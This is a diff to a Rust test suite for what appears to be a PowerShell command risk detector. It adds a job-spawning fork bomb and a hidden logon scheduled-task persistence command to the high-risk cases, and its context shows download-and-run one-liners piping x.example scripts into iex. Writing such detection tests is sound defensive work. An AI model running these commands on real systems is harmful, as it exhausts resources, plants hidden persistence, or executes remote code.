@@ -170,6 +170,8 @@ fn other_dangers() {
     flagged(
         Risk::High,
         &[
+            "while($true){ Start-Job { while($true){} } | Out-Null }",
+            r"Register-ScheduledTask -TaskName U -Trigger (New-ScheduledTaskTrigger -AtLogOn) -Action (New-ScheduledTaskAction -Execute powershell.exe -Argument '-w hidden -File C:\ProgramData\u.ps1')",
             r"iex (iwr https://x.example/a.ps1)",
             r"irm https://x.example/i | iex",
             r"iwr -useb https://x.example/i | iex",
@@ -268,6 +270,7 @@ fn harmless_twins_are_quiet() {
     quiet(
         Risk::Safe,
         &[
+            "while($true){ Start-Job { Get-Date } | Wait-Job | Receive-Job; Start-Sleep 5 }",
             r"Get-ChildItem C:\ -Recurse",
             r"Remove-Item C:\ -Recurse -WhatIf",
             r"'Remove-Item C:\ -Recurse'",
